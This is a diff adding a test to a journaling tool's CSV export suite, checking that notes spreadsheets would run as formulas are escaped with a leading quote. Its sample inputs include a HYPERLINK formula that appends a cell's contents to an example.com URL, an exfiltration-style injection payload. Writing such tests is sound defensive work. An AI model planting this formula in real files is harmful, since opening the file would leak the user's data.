@@ -199,6 +199,20 @@ describe('connect export --format csv and markdown', () => {
     expect(mood[header.indexOf('note')]).toBe('tired, but ok');
   });
 
+  it('keeps text a spreadsheet would run as a formula as text', () => {
+    const s = fresh();
+    const formulas = ['=HYPERLINK("https://example.com/?"&A1,"more")', '+1 for the walk', '-ish day', '@Sam'];
+    for (const note of formulas) expect(s.run(['log', 'Sam', '--note', note]).code).toBe(0);
+    expect(s.run(['log', '=1+1']).code).toBe(0);
+    const [header, ...rows] = readCsv(s.run(['export', '--format', 'csv']).stdout);
+    const notes = rows.map((row) => row[header.indexOf('note')]).filter(Boolean);
+    expect(notes.sort()).toEqual(formulas.map((note) => `'${note}`).sort());
+    expect(rows.map((row) => row[header.indexOf('people')])).toContain("'=1+1");
+    expect(rows.every((row) => !/^[=+\-@\t\r]/.test(row.join('')))).toBe(true);
+    // JSON keeps every note exactly as written.
+    expect(s.run(['export', '--format', 'json']).json().entries.map((e: any) => e.note).filter(Boolean).sort()).toEqual([...formulas].sort());
+  });
+
   it('writes a readable journal by month, oldest first', () => {
     const s = fresh();
     richJournal(s);
